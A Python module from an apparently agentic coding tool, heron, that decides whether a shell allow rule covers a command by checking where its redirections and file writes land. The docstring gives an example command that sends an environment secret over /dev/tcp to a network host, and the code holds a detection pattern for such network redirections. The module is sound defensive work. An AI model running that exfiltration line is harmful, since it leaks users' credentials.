"""What an allow rule for a command (``Bash(echo:*)``, ``Unsandboxed(echo:*)``) covers.

A command rule names a program and its first words. It is the user's yes to *that command*,
not to wherever its output goes: ``Unsandboxed(echo:*)``, the rule heron offers to save for
``echo hi``, must not let ``echo "$KEY" > /dev/tcp/host/port`` or ``echo x > /var/tmp/x`` run
unconfined. So a command rule covers a command only when everything the command writes
that the checker can see stays in the project, out of the places the mode protects
(``.heron/``, ``.git/``, credentials): its output redirections, the files of programs that
write their arguments (``tee f``, ``cp a f``), the files and directories hidden in its
arguments (``sort -o f``, ``tar -x -C d``). A redirection to or from ``/dev/tcp`` or
``/dev/udp`` (the network), or to a file computed at run time (``> $F``), is never covered
either. What goes further is covered only by a rule that *names* it: the exact command line
(``Unsandboxed(echo x > /var/tmp/x)``), or a pattern that spells the target
(``Bash(echo * > /var/tmp/x)``). A command whose effect cannot be bounded at all (an
interpreter's program from standard input) or whose program's name is computed is covered
only by its exact line.

The rule heron suggests for a command is the program's (``Bash(echo:*)``) when that rule
covers it, and otherwise the exact line - never one broader than the command needs, and
always one that lets the command run.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

from heron.coding.permissions.base import exact_rule, same_command
from heron.coding.permissions.findings import operands, option_value
from heron.coding.permissions.modes import is_read_only
from heron.coding.permissions.rules import command_matches, suggest_bash_rule
from heron.coding.permissions.wrappers import unwrap
from heron.coding.tools.env import resolve_path

if TYPE_CHECKING:  # the shell parser loads with the first command judged
    from heron.coding.permissions.shell import SimpleCommand

# Programs whose file arguments they change: an Edit/Write rule covers those arguments.
WRITING_PROGRAMS = frozenset(
    {
        "cp",
        "mv",
        "rm",
        "rmdir",
        "unlink",
        "shred",
        "touch",
        "truncate",
        "tee",
        "mkdir",
        "ln",
        "chmod",
        "chown",
        "chgrp",
        "install",
        "rsync",
        "dd",
        "patch",
        "sed",
        "perl",
    }
)
_TO_LAST = frozenset({"cp", "mv", "install", "ln", "rsync"})  # they write only their last operand (or -t DIR)
_NETWORK = ("/dev/tcp/", "/dev/udp/")


class Reach:
    """Where a command may write without a rule naming it: the project, minus the places
    ``protected`` says the mode protects."""

    def __init__(self, project: Path, protected: Callable[[Path], bool]) -> None:
        self.project = project
        self.protected = protected

    def allows(self, path: Path) -> bool:
        real = Path(os.path.realpath(path))
        inside = real == self.project or self.project in real.parents
        return inside and not self.protected(path) and not self.protected(real)

    def beyond(self, part: SimpleCommand, runs_in: Path) -> list[str]:
        """What ``part`` writes (or connects to) beyond the project, as written in the command;
        ``""`` for what the command cannot name (arguments given by ``xargs``)."""
        out: list[str] = []
        for operator, word in part.redirects:
            text = word.text
            network = word.dynamic or text.startswith(_NETWORK)
            if network or (">" in operator and not self.allows(resolve_path(text, runs_in))):
                out.append(text)
        written = [t.text.removesuffix("/-") for t in part.targets] + [t.text for t in part.trees]
        words = [w.text for w in part.words]
        start = unwrap(words)[-1] if words else 0
        if changes_operands(words[start:]):
            written += written_operands(words[start:])
            if part.fed is not None and not part.fed:
                out.append("")
        dynamic = {t.text for t in (*part.targets, *part.trees) if t.dynamic}
        dynamic |= {w.text for w in part.words[start + 1 :] if w.dynamic}
        for text in written:
            if text in dynamic or "$" in text or not self.allows(resolve_path(text, runs_in)):
                out.append(text)
        return list(dict.fromkeys(out))


def changes_operands(words: list[str]) -> bool:
    """Whether the command (its program first) changes the files it names: ``cp``, ``tee``,
    ``rm`` …, and ``sed``/``perl`` only when they edit in place (``-i``)."""
    program = words[0].rsplit("/", 1)[-1] if words else ""
    if program == "sed":
        return not is_read_only(words)
    if program == "perl":
        return any(w.startswith("-") and not w.startswith("--") and "i" in w[1:] for w in words[1:])
    return program in WRITING_PROGRAMS


def written_operands(words: list[str]) -> list[str]:
    """The operands a writing program changes: ``cp a b`` writes ``b``, ``tee f g`` both."""
    program = words[0].rsplit("/", 1)[-1]
    if program == "dd":
        return [w.split("=", 1)[1] for w in words[1:] if w.startswith("of=")]
    if program in _TO_LAST:
        return option_value(words, "-t", "--target-directory") or operands(words)[-1:]
    return operands(words)


def covers(specifier: str | None, part: SimpleCommand, command: str, beyond: list[str]) -> bool:
    """Whether an allow rule with ``specifier`` covers ``part`` of ``command`` (module
    docstring); ``beyond``: what the part writes beyond the project (:meth:`Reach.beyond`)."""
    if specifier is None:
        return True
    if same_command(specifier, command) or same_command(specifier, full_text(part)):
        return True
    if part.opaque or part.dynamic_name:
        return False
    words = [w.text for w in part.words]
    if not beyond:
        return command_matches(specifier, words)
    if any(not target or target not in specifier for target in beyond):
        return False
    return command_matches(specifier, full_text(part).split())


def full_text(part: SimpleCommand) -> str:
    """The command with its redirections, as a rule would spell it: ``echo hi > out.txt``."""
    return " ".join([part.text, *(f"{operator} {word.text}" for operator, word in part.redirects)])


def suggest(tool: str, part: SimpleCommand, command: str, beyond: list[str]) -> str:
    """The rule to offer for ``part``: its program's when that covers it, else the exact line."""
    candidate = suggest_bash_rule([w.text for w in part.words])
    specifier = candidate[len("Bash(") : -1] if candidate != "Bash" else None
    if specifier is not None and covers(specifier, part, command, beyond):
        return tool + candidate.removeprefix("Bash")
    return exact_rule(command, tool)
